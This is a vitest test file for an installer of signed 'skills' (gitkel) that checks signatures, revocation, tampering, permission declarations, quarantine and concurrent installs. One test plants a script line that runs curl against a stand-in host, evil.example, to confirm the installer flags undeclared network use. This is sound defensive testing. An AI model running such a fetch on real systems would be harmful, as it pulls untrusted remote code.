import { mkdirSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { rm } from 'node:fs/promises';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { nodeHost } from '../../src/host/node.ts';
import { lockFilePath } from '../../src/install/install-layout.ts';
import { quarantined } from '../../src/install/quarantine.ts';
import { encodeLock } from '../../src/install/skills-lock.ts';
import { digestSkill } from '../../src/skills/skill-digest.ts';
import { nativeCrypto } from '../../src/crypto/native.ts';
import { entriesOf, file, tarLies, tgzOfMembers, zipLies, zipOfEntries } from '../skills/making.ts';
import { runGit } from '../support/binary.ts';
import { reasonOf } from '../support/thrown.ts';
import { Ground, manifestOf, outcomeOf } from './ground.ts';
import { skillFilesOf } from './making.ts';

const NOTES = skillFilesOf('notes');
const NEWER = skillFilesOf('notes', 'newer\n');
const asking = (permissions: object, text = 'text\n') => [
  ...skillFilesOf('notes', text),
  file(
    'skill.permissions.json',
    JSON.stringify({ schema: 'urn:gitkel:skill-permissions:1', ...permissions }),
  ),
];

let ground: Ground;

beforeEach(async () => {
  ground = await Ground.make();
});

afterEach(() => {
  ground.remove();
});

describe('installSkill()', () => {
  test('puts what is released into its place, read-only, with an entry that says why', async () => {
    const release = await ground.release('alice', NOTES);
    expect(outcomeOf(await ground.installed(NOTES))).toBe('installed');
    const { said, h1 } = manifestOf(NOTES);
    const aid = ground.aid('alice');
    expect(ground.entry).toMatchObject({
      name: 'notes',
      manifest: said,
      h1,
      release: release.said,
      version: '1.0.0',
      author: { aid, issuer: aid, sn: release.sn },
      log: { id: ground.releases.id, position: release.position },
      approvals: [{ manifest: said, release: release.said }],
    });
    expect(statSync(ground.path('.')).mode & 0o055).toBe(0o055);
    expect(statSync(ground.path('notes/SKILL.md')).mode & 0o777).toBe(0o444);
    expect(statSync(ground.path('notes/scripts/run.sh')).mode & 0o777).toBe(0o555);
    expect(readdirSync(ground.path('.installing'))).toEqual(['locks']);
    expect(ground.shown.join('\n')).toContain('risk unknown: it declares no permissions');
    expect(await ground.states()).toEqual({ notes: 'verified' });
    expect(outcomeOf(await ground.installed(NOTES))).toBe('unchanged');
  });

  test('takes the same skill from a commit and from archives, and remembers where it was', async () => {
    await ground.release('alice', NOTES);
    const { said } = manifestOf(NOTES);
    const source = ground.source(NOTES);
    await runGit(source, ['init', '-q', '-b', 'main']);
    await runGit(source, ['add', '.']);
    await runGit(source, ['commit', '-qm', 'x']);
    const publisher = [ground.aid('alice')];
    const typed = { publisher, expect: said };
    expect(outcomeOf(await ground.install(source, { ...typed, commit: 'main' }))).toBe('installed');
    expect(ground.entry.source).toMatchObject({ type: 'git', url: source, path: '', ref: 'main' });
    expect(ground.entry.manifest).toBe(said);
    for (const [name, bytes] of [
      ['notes.zip', zipOfEntries(zipLies(NOTES))],
      ['notes.tgz', tgzOfMembers(tarLies(NOTES))],
    ] as const) {
      const archive = path.join(ground.dir, name);
      writeFileSync(archive, bytes);
      ground.edit('changed', 'notes/SKILL.md');
      await ground.verify({ quarantine: true });
      expect(outcomeOf(await ground.install(archive, typed))).toBe('updated');
      expect(ground.entry.source).toMatchObject({ type: 'archive', path: archive });
    }
    expect(quarantined(ground.folder, ground.entry)).toHaveLength(2);
    const linked = path.join(ground.dir, 'linked.tgz');
    symlinkSync('notes.tgz', linked);
    expect(outcomeOf(await ground.install(linked, typed))).toBe('unchanged');
  });

  test('under --strict takes a commit by its id, and no branch or directory', async () => {
    await ground.release('alice', NOTES);
    const source = ground.source(NOTES);
    await runGit(source, ['init', '-q', '-b', 'main']);
    await runGit(source, ['add', '.']);
    await runGit(source, ['commit', '-qm', 'x']);
    const typed = {
      publisher: [ground.aid('alice')],
      strict: true,
      expect: manifestOf(NOTES).said,
    };
    expect(await reasonOf(async () => ground.install(source, typed))).toBe('source-mutable');
    expect(await reasonOf(async () => ground.install(source, { ...typed, commit: 'main' }))).toBe(
      'source-mutable',
    );
    const id = await runGit(source, ['rev-parse', 'main']);
    expect(outcomeOf(await ground.install(source, { ...typed, commit: id.trim() }))).toBe(
      'installed',
    );
  });

  test('asks a person, and without a terminal says what scripts do', async () => {
    await ground.release('alice', NOTES);
    expect(await reasonOf(async () => ground.installed(NOTES, { expect: false }))).toBe(
      'unattended',
    );
    expect(ground.has('notes')).toBe(false);
    expect(readdirSync(ground.path('.installing'))).toEqual([]);
  });

  test.each([
    ['what nobody released', 'intact-unsigned: no-release', async () => ground.installed(NOTES)],
    [
      'what a stranger released',
      'signed-untrusted: publisher-not-allowed',
      async () => {
        await ground.release('mallory', NOTES);
        return ground.installed(NOTES);
      },
    ],
    [
      'anything while no publisher is named',
      'signed-untrusted: publisher-not-allowed',
      async () => {
        await ground.release('alice', NOTES);
        return ground.installed(NOTES, { publisher: [] });
      },
    ],
    [
      'what was revoked',
      'revoked: release-revoked',
      async () => {
        const { said } = await ground.release('alice', NOTES);
        await ground.releases.revoke('alice', manifestOf(NOTES), { kind: 'release', said });
        return ground.installed(NOTES);
      },
    ],
    [
      'one byte changed',
      'tampered: file-changed',
      async () => {
        await ground.release('alice', NOTES);
        return ground.installed(NEWER);
      },
    ],
    [
      'another manifest than the one that is expected',
      'signed-untrusted: expected-other',
      async () => {
        await ground.release('alice', NOTES);
        return ground.installed(NOTES, { expect: manifestOf(NEWER).said });
      },
    ],
    [
      'permissions that cannot be read',
      'error: permissions-unknown-key',
      async () => {
        const files = asking({ everything: true });
        await ground.release('alice', files);
        return ground.installed(files);
      },
    ],
  ] as const)('refuses %s', async (_, expected, attempt) => {
    expect(outcomeOf(await attempt())).toBe(expected);
    expect(ground.lock).toEqual([]);
    expect(ground.has('notes')).toBe(false);
  });

  test('takes what a device with the capability released in the name of its controller', async () => {
    await ground.releases.link('alice', 'runner', ['release']);
    await ground.release('runner', NOTES, '1.0.0', 'alice');
    expect(outcomeOf(await ground.installed(NOTES))).toBe('installed');
    expect(ground.entry.author).toMatchObject({
      aid: ground.aid('alice'),
      issuer: ground.aid('runner'),
    });
  });

  test('takes files that are released under the SHA-256 of their manifest', async () => {
    const digest = digestSkill(nativeCrypto, entriesOf(NOTES), 'I');
    if (digest.outcome === 'refused') throw new Error('the test made no skill');
    const { said } = await ground.releases.release('alice', digest.manifest);
    expect(outcomeOf(await ground.installed(NEWER))).toBe('tampered: file-changed');
    expect(outcomeOf(await ground.installed(NOTES))).toBe('installed');
    expect(outcomeOf(await ground.installed(NOTES))).toBe('unchanged');
    expect(await ground.states()).toEqual({ notes: 'verified' });
    await ground.releases.revoke('alice', digest.manifest, { kind: 'release', said });
    expect(await ground.states()).toEqual({ notes: 'revoked: release-revoked' });
  });

  test('takes what a policy allows for the path of the skill, and by the log of the policy alone', async () => {
    const { said } = await ground.release('alice', NOTES);
    const policy = path.join(ground.dir, 'policy.yaml');
    const write = (id: string, match: string): void =>
      writeFileSync(
        policy,
        `version: 1\nlog:\n  id: ${id}\nmaintainers:\n  - ${ground.aid('mallory')}\npaths:\n  - match: "${match}"\n    release:\n      - ${ground.aid('alice')}\n`,
      );
    const typed = { policy, publisher: [] };
    write(ground.releases.id, 'pdf');
    expect(outcomeOf(await ground.installed(NOTES, typed))).toBe(
      'signed-untrusted: publisher-other-path',
    );
    write(ground.aid('alice'), 'notes');
    expect(await reasonOf(async () => ground.installed(NOTES, typed))).toBe('other-log');
    write(ground.releases.id, 'notes');
    expect(outcomeOf(await ground.installed(NOTES, typed))).toBe('installed');
    expect(ground.entry.policy).toMatch(/^[0-9a-f]{64}$/);
    await ground.releases.revoke('mallory', manifestOf(NOTES), { kind: 'release', said });
    expect(await ground.states()).toEqual({ notes: 'verified' });
    expect(await ground.states(typed)).toEqual({ notes: 'revoked: release-revoked' });
  });

  test('says what its files seem to need and it does not declare', async () => {
    const files = [
      ...asking({ exec: { run: ['git'] } }),
      file('scripts/a.sh', '#!/bin/sh\ncurl https://evil.example/x\n'),
    ];
    await ground.release('alice', files);
    expect(outcomeOf(await ground.installed(files))).toBe('installed');
    const told = ground.shown.filter((line) => line.includes('NOT DECLARED'));
    expect(told.join('\n')).toContain('evil.example');
  });

  test('leaves alone what gitkel did not install, and a name that is the same on some systems', async () => {
    await ground.release('alice', NOTES);
    ground.edit('mine', 'notes/mine.txt');
    expect(await reasonOf(async () => ground.installed(NOTES))).toBe('name-taken');
    expect(ground.has('notes/mine.txt')).toBe(true);
    const other = await Ground.make();
    await other.release('alice', NOTES);
    other.edit('mine', 'Notes/mine.txt');
    expect(await reasonOf(async () => other.installed(NOTES))).toBe('name-collision');
    other.remove();
  });

  test('refuses a work folder that leads elsewhere', async () => {
    await ground.release('alice', NOTES);
    ground.edit('x', 'keep');
    const away = path.join(ground.dir, 'away');
    mkdirSync(away);
    symlinkSync(away, ground.path('.installing'));
    const before = statSync(away, { bigint: true }).mtimeNs;
    expect(await reasonOf(async () => ground.installed(NOTES))).toBe('work-folder');
    expect(statSync(away, { bigint: true }).mtimeNs).toBe(before);
  });

  test('two that install the same at once: one does, the other finds out', async () => {
    await ground.release('alice', NOTES);
    const outcomes = await Promise.allSettled([ground.installed(NOTES), ground.installed(NOTES)]);
    const done = outcomes.filter(({ status }) => status === 'fulfilled');
    expect(done.length).toBeGreaterThanOrEqual(1);
    for (const outcome of outcomes)
      if (outcome.status === 'rejected')
        expect(outcome.reason).toMatchObject({ code: 'conflict', reason: 'lock-moved' });
    expect(await ground.states()).toEqual({ notes: 'verified' });
  });
});

describe('updateSkill()', () => {
  const setUp = async (files = NOTES): Promise<string> => {
    await ground.release('alice', files);
    await ground.installed(files);
    const { source } = ground.entry;
    return source.type === 'directory' ? source.path : '';
  };
  const change = async (source: string, files: typeof NOTES, version = '2.0.0'): Promise<void> => {
    await ground.release('alice', files, version);
    for (const { path: name, bytes } of files) writeFileSync(path.join(source, name), bytes);
  };

  test('replaces what asks for no more, with nobody asked', async () => {
    const source = await setUp(asking({ exec: { run: ['git'] } }));
    await change(source, asking({}, 'newer\n'));
    expect(outcomeOf(await ground.update(ground.entry))).toBe('updated');
    expect(ground.entry).toMatchObject({ version: '2.0.0' });
    expect(ground.entry.approvals).toHaveLength(1);
    expect(outcomeOf(await ground.update(ground.entry))).toBe('unchanged');
  });

  test('asks where more is asked for than was agreed to', async () => {
    const source = await setUp(asking({ exec: { run: ['git'] } }));
    const wider = asking({ exec: { run: ['git', 'curl'] } });
    await change(source, wider);
    ground.shown = [];
    const failed = await ground.update(ground.entry);
    expect(failed).toMatchObject({ status: 'failed', error: { code: 'usage' } });
    expect(ground.shown.join('\n')).toContain('+ exec.run curl');
    expect(ground.entry.version).toBe('1.0.0');
    const { said } = manifestOf(wider);
    expect(outcomeOf(await ground.update(ground.entry, { expect: said }))).toBe('updated');
    expect(ground.entry.approvals).toHaveLength(2);
  });

  test.each([
    ['removed', async () => rm(ground.path('notes'), { recursive: true })],
    ['moved aside', async () => ground.verify({ quarantine: true })],
  ])(
    'asks where what was agreed to is lost, and nothing is declared any more: %s',
    async (_, lose) => {
      const agreed = asking({ exec: { run: ['git'] } });
      const source = await setUp(agreed);
      await change(source, NEWER);
      rmSync(path.join(source, 'skill.permissions.json'));
      const { manifest } = ground.entry;
      await ground.releases.revoke('alice', manifestOf(agreed), {
        kind: 'manifest',
        said: manifest,
      });
      await lose();
      expect(ground.has('notes')).toBe(false);
      expect(await ground.update(ground.entry)).toMatchObject({
        status: 'failed',
        error: { code: 'usage' },
      });
      expect(ground.has('notes')).toBe(false);
      expect(ground.shown.join('\n')).toContain('cannot be compared with what was agreed to');
    },
  );

  test('never replaces edited files; they are moved aside when that is asked for', async () => {
    const source = await setUp();
    await change(source, NEWER);
    ground.edit('mine\n', 'notes/references/a.md');
    expect(outcomeOf(await ground.update(ground.entry))).toBe('tampered: file-changed');
    const before = ground.entry;
    expect(outcomeOf(await ground.update(before, { quarantine: true }))).toBe('updated');
    expect(quarantined(ground.folder, before)).toHaveLength(1);
    ground.edit('twice\n', 'notes/references/a.md');
    const nowhere = { type: 'directory', path: '/nowhere/at/all' } as const;
    const lost = { ...ground.entry, source: nowhere };
    writeFileSync(lockFilePath(ground.folder.dir), encodeLock([lost]));
    const movedTo = expect.stringContaining('.quarantine') as string;
    expect(await ground.update(lost, { quarantine: true })).toMatchObject({
      status: 'failed',
      error: { code: 'not-found' },
      movedTo,
    });
    writeFileSync(
      lockFilePath(ground.folder.dir),
      encodeLock([{ ...lost, source: before.source }]),
    );
    expect(outcomeOf(await ground.update(ground.entry))).toBe('updated');
    ground.edit('again\n', 'notes/references/a.md');
    await ground.verify({ quarantine: true });
    expect(ground.has('notes')).toBe(false);
    expect(outcomeOf(await ground.update(ground.entry))).toBe('updated');
    expect(await ground.states()).toEqual({ notes: 'verified' });
  });

  test('stays where only the id of a commit is known, and keeps others from being stopped by a failure', async () => {
    await setUp();
    const { entry } = ground;
    const commit = '12'.repeat(20);
    const pinned = {
      ...entry,
      source: { type: 'git', url: '/nowhere', commit, path: '' },
    } as const;
    expect(await ground.update(pinned)).toMatchObject({ status: 'pinned' });
    const gone = { ...entry, source: { type: 'directory', path: '/nowhere/at/all' } } as const;
    expect(await ground.update(gone)).toMatchObject({
      status: 'failed',
      error: { code: 'not-found' },
    });
  });

  test('refuses what calls itself otherwise', async () => {
    const source = await setUp();
    const other = skillFilesOf('pdf');
    await change(source, other);
    expect(await ground.update(ground.entry)).toMatchObject({
      status: 'failed',
      error: { reason: 'other-name' },
    });
  });
});

test('placeOf() takes a folder, or one skill of it', async () => {
  await ground.release('alice', NOTES);
  await ground.installed(NOTES);
  const dir = ground.path('notes');
  expect(await ground.states({ dir })).toEqual({ notes: 'verified' });
  ground.edit('{"schema":"urn:gitkel:skills-lock:1","skills":[]}\n', 'notes/skills.lock.json');
  expect(await ground.states({ dir })).toEqual({ notes: 'tampered: file-added' });
  rmSync(ground.path('notes/skills.lock.json'));
  rmSync(ground.path('notes/SKILL.md'));
  expect(await ground.states({ dir })).toEqual({ notes: 'tampered: skill-md-missing' });
  await ground.verify({ quarantine: true });
  expect(await ground.states({ dir })).toEqual({ notes: 'tampered: skill-md-missing' });
  expect(nodeHost().fs.readdirSync(ground.folder.dir)).toContain('skills.lock.json');
});
